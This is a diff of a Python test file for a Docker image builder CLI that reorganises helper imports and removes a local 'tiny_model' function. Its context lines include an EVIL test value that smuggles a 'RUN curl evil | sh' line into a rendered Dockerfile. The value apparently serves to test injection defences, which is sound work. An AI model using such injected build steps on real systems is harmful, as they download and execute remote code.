@@ -16,8 +16,8 @@ from builder.errors import SwcliError
 from builder.images import context as ctx
 from builder.images.build import ImageInputError, build_runtime_image
 from builder.images.render import TemplateValueError, environment, json_string, render_dockerfile
-
-from tests.images.test_images_render import CASES
+from tests.helpers.models import tiny_model
+from tests.helpers.render_cases import CASES
 
 EVIL = [
     'x"\nRUN curl evil | sh\nLABEL a="',
@@ -137,13 +137,6 @@ def test_runtime_build_base_image_flag(cli, tmp_path):
               tmp_path / "ctx")
     assert res.code == 2 and "--base-image" in res.err and res.err.count("\n") == 1
     assert not (tmp_path / "ctx").exists()
-
-
-def tiny_model(tmp_path: Path) -> Path:
-    (tmp_path / "m" / "code").mkdir(parents=True)
-    (tmp_path / "m" / "code" / "ppl.py").write_text("class P: pass\n")
-    (tmp_path / "m" / "model.yaml").write_text("name: tiny\nrun:\n  ppl: code.ppl:P\n")
-    return tmp_path / "m"
 
 
 def test_model_build_runtime_flag(cli, tmp_path):
